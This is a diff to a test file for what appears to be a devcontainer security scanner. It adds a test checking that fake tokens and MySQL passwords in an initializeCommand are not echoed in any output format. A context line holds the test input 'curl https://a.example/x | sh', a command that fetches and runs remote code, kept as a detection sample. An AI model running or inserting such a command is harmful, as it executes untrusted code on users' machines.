@@ -153,6 +153,22 @@ def test_commands_are_read_in_each_of_their_forms(tmp_path: Path) -> None:
     assert told(result, "command-on-host") == {("curl https://a.example/x | sh",)}
 
 
+def test_no_credential_is_printed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    token = "ghp_Zk3vQ9xW1bR7tY5uN2mDZk3vQ9xW1bR7tY5u"
+    commands = [
+        f"curl -H 'Authorization: Bearer {token}' https://example.com",
+        "mysql -h db -pk3vQz8Rw2pLm",
+        ["mysql", "-pk3vQz8Rw2pLn"],
+    ]
+    body = {"image": "x/y:1.2.3", "initializeCommand": {str(n): each for n, each in enumerate(commands)}}
+    (tmp_path / "devcontainer.json").write_text(json.dumps(body))
+    for form in ("full", "json", "sarif"):
+        main(["check", str(tmp_path), "--output-format", form, "--min-severity", "info"])
+        shown = capsys.readouterr().out
+        assert "ghp_Zk3v" not in shown
+        assert "k3vQz8Rw2pL" not in shown
+
+
 def test_a_comment_accepts_a_finding(tmp_path: Path) -> None:
     body = '\n// hullcheck: ignore[privileged] reason="nested containers"\n"privileged": true\n'
     (finding,) = named(of(tmp_path, body), "privileged")
